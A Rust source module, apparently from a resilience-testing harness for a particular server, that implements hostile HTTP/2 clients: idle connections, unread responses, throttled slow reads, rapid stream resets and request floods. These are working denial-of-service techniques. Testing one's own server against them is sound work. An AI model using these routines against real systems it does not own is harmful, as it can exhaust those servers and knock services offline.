//! The hostile HTTP/2 connections.

use crate::target::{BoxError, Target, absent};
use antway_peer::address::Address;
use bytes::Bytes;
use futures_util::future::poll_fn;
use h2::Reason;
use h2::client::{ResponseFuture, SendRequest, handshake};
use hyper::Request;
use std::net::Ipv4Addr;
use std::time::Duration;
use tokio::task::JoinSet;
use tokio::time::sleep;

/// The requests that a connection leaves unread at a time.
const UNREAD_REQUESTS: usize = 32;

/// The kinds of hostile connections.
#[derive(Clone, Copy)]
pub enum Kind {
    Idle,
    UnreadAnswers,
    SlowReads,
    Resets,
    Flood,
}

impl Kind {
    pub const ALL: [Self; 5] = [
        Self::Idle,
        Self::UnreadAnswers,
        Self::SlowReads,
        Self::Resets,
        Self::Flood,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Self::Idle => "idle HTTP/2 connections",
            Self::UnreadAnswers => "HTTP/2 connections that do not read",
            Self::SlowReads => "HTTP/2 connections that read slowly",
            Self::Resets => "HTTP/2 connections that reset lookups",
            Self::Flood => "HTTP/2 connections that flood requests",
        }
    }

    /// Attacks until the connection ends.
    pub async fn attack(self, target: &Target, client: Ipv4Addr) -> Result<(), BoxError> {
        let (mut requests, connection) = handshake(target.http2(client).await?).await?;
        let mut connections = JoinSet::new();
        connections.spawn(connection);
        let attacking = async {
            match self {
                Self::Idle => std::future::pending().await,
                Self::UnreadAnswers => {
                    let _bodies = request_stored(&mut requests, target).await?;
                    std::future::pending().await
                }
                Self::SlowReads => {
                    let mut responses = request_stored(&mut requests, target).await?;
                    let mut body = responses.swap_remove(0).await?.into_body();
                    while let Some(part) = body.data().await {
                        for _ in (0..part?.len()).step_by(1024) {
                            sleep(Duration::from_millis(200)).await;
                            body.flow_control().release_capacity(1024)?;
                        }
                    }
                    Ok(())
                }
                Self::Resets => loop {
                    let path = format!("/chunk/{}", Address::from(absent()));
                    let (response, mut send) = begin(&mut requests, target, &path).await?;
                    sleep(Duration::from_millis(50)).await;
                    send.send_reset(Reason::CANCEL);
                    drop(response);
                },
                Self::Flood => loop {
                    let (response, _) = begin(&mut requests, target, "/-/info").await?;
                    let mut body = response.await?.into_body();
                    while let Some(part) = body.data().await {
                        let length = part?.len();
                        body.flow_control().release_capacity(length)?;
                    }
                    sleep(Duration::from_millis(20)).await;
                },
            }
        };
        tokio::select! {
            ended = attacking => ended,
            _ = connections.join_next() => Ok(()),
        }
    }
}

async fn request_stored(
    requests: &mut SendRequest<Bytes>,
    target: &Target,
) -> Result<Vec<ResponseFuture>, BoxError> {
    let mut responses = Vec::new();
    for address in target.chunks.iter().cycle().take(UNREAD_REQUESTS) {
        let path = format!("/chunk/{address}");
        responses.push(begin(requests, target, &path).await?.0);
    }
    Ok(responses)
}

async fn begin(
    requests: &mut SendRequest<Bytes>,
    target: &Target,
    path: &str,
) -> Result<(ResponseFuture, h2::SendStream<Bytes>), BoxError> {
    poll_fn(|cx| requests.poll_ready(cx)).await?;
    let request = Request::get(format!("https://{}{path}", target.https)).body(())?;
    Ok(requests.send_request(request, true)?)
}
